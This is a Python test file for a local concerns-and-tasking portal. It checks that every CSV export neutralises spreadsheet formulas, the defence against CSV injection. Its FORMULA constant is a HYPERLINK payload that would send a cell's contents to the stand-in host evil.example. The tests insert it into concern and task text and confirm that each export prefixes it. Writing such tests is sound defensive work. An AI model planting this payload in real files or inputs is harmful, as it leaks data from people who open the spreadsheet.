"""CSV exports never carry a formula: text a resident or partner typed is shown, not run (CSV injection)."""
import csv
import io
from datetime import date, timedelta

from sqlalchemy import select

from portal.concerns.models import Concern, ConcernCategory
from portal.extensions import db
from portal.people.models import User
from portal.places.models import Locality
from portal.spreadsheets import neutralise
from portal.tasking import tasks as tasking

from ..conftest import DEMO_EMAILS
from ..factories import one

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'



def cells(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]


def test_a_cell_starting_like_a_formula_is_prefixed_and_numbers_are_not():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("Graffiti = vandalism") == "Graffiti = vandalism"
    assert neutralise(-4.5) == -4.5 and neutralise(7) == 7 and neutralise(None) is None


def test_every_export_neutralises_a_formula_in_concern_and_task_text(app, as_role, browser):
    wem = one(Locality, key="wem")
    concern = Concern(locality=wem, category=one(ConcernCategory, name="ENVIRONMENTAL - GRAFFITI"), source="pact",
                      raised_on=date.today() - timedelta(days=2), you_said=FORMULA, we_did="+44 1743 000000 called",
                      internal_notes="@SUM(1,1)", street="-Mill Lane", status="responded", published=True,
                      responded_on=date.today())
    db.session.add(concern)
    db.session.commit()
    officer = as_role("officer")

    register = cells(officer.get(f"/concerns/export.csv?locality={wem.id}"))
    assert "'" + FORMULA in register and "'@SUM(1,1)" in register and "'-Mill Lane" in register
    assert "'+44 1743 000000 called" in register

    public = cells(browser.get("/api/concerns.csv"))
    assert "'" + FORMULA in public and "'+44 1743 000000 called" in public

    response = officer.post("/tasking/meetings/new", {"area": str(one(Locality, key="north").id),
                                                     "held_on": date.today().strftime("%d/%m/%Y")})
    assert response.status_code == 302
    meeting_url = response.headers["Location"]
    partner = one(User, email=DEMO_EMAILS["partner"])
    task = tasking.create_task(by=one(User, email=DEMO_EMAILS["officer"]), title=FORMULA, problem="Litter",
                               locality_id=wem.id, lead_organisation_id=partner.organisation_id,
                               owner_id=partner.id, due_on=date.today() + timedelta(days=9))
    db.session.commit()
    meeting_id = int(meeting_url.rstrip("/").split("/")[-1])
    from portal.tasking.models import AgendaItem

    item = db.session.execute(select(AgendaItem).filter_by(meeting_id=meeting_id)).scalars().first()
    response = officer.post(f"/tasking/meetings/{meeting_id}/items/{item.id}",
                            {"decision": "link_task", "link_task": str(task.id), "note": "=1+2"})
    assert response.status_code == 302
    record = cells(officer.get(f"/tasking/meetings/{meeting_id}/record.csv"))
    assert "'" + FORMULA in record and "'=1+2" in record
    # The dashboard's exports: the task list (per task and per log entry) and the concerns' timeline.
    task_list = cells(officer.get("/dashboard/tasks.csv")) + cells(officer.get("/dashboard/tasks.csv?entries=1"))
    timeline = cells(officer.get(f"/dashboard/concerns.csv?locality={wem.id}"))
    assert "'" + FORMULA in task_list and str(concern.id) in timeline
    record += task_list + timeline
    assert [cell for cell in register + public + record
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)] == []


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True
